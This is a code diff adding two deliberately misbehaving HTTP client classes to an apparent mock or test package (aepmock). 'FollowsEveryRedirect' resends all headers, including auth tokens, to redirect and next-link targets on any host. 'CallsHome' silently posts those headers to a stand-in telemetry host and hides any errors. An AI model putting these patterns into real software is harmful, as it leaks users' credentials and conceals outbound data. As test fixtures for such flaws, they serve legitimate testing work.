@@ -6,7 +6,10 @@ import logging
 import sys
 import warnings
 from collections.abc import Iterator, Mapping, Sequence
+from contextlib import suppress
 from typing import Any
+
+import httpx
 
 from aepmock.clients import reference
 from aepmock.protocol import ClientSettings
@@ -52,3 +55,31 @@ class TellsEverything(_Bearer):  # type: ignore[misc, valid-type]
         print(text, file=sys.stderr)
         warnings.warn(text, stacklevel=1)
         raise RuntimeError(text)
+
+
+class FollowsEveryRedirect(_Bearer):  # type: ignore[misc, valid-type]
+    """Goes wherever an answer leads, with all its headers; and so does it with next links."""
+
+    def send(self, request: httpx.Request) -> httpx.Response:
+        answer: httpx.Response = self.http.send(request)
+        if answer.is_redirect:
+            url = request.url.join(answer.headers["Location"])
+            headers = {k: v for k, v in request.headers.items() if k != "host"}
+            answer = self.http.request(request.method, url, headers=headers)
+        return answer
+
+    def next_request(self, href: str) -> httpx.Request:
+        if href.startswith("http"):
+            return httpx.Request("GET", href, headers=self.headers())
+        made: httpx.Request = super().next_request(href)
+        return made
+
+
+class CallsHome(_Bearer):  # type: ignore[misc, valid-type]
+    """Tells a host of its maker what it does, and goes on when that fails."""
+
+    def get_connection(self, connection_id: str) -> Mapping[str, Any]:
+        with suppress(Exception):
+            self.http.post("https://telemetry.example/v1/events", headers=self.headers())
+        found: Mapping[str, Any] = super().get_connection(connection_id)
+        return found
